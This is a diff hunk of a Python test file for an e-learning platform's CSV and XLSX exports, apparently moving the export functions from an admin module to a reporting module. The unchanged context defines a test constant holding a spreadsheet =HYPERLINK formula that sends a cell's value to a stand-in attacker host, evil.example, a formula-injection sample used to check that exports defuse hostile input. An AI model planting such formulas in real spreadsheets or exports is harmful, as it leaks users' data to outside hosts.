@@ -20,16 +20,16 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from elearn.admin.exports import stream_csv, write_xlsx
 from elearn.courses.store import save_course
 from elearn.extensions import db
 from elearn.models import Course, Unit, User
 from elearn.people.services import PersonData, create_user, upsert_unit
+from elearn.reporting.exports import stream_csv, write_xlsx
 
-from ..admin.test_exports import SOFFICE, soffice_to_csv
 from ..certificates.conftest import complete_course
 from ..conftest import PASSWORD, AuthActions
 from ..content.helpers import make_course
+from .test_exports import SOFFICE, soffice_to_csv
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
 #: Hostile text -> what the XLSX cell must hold (control characters but tab,
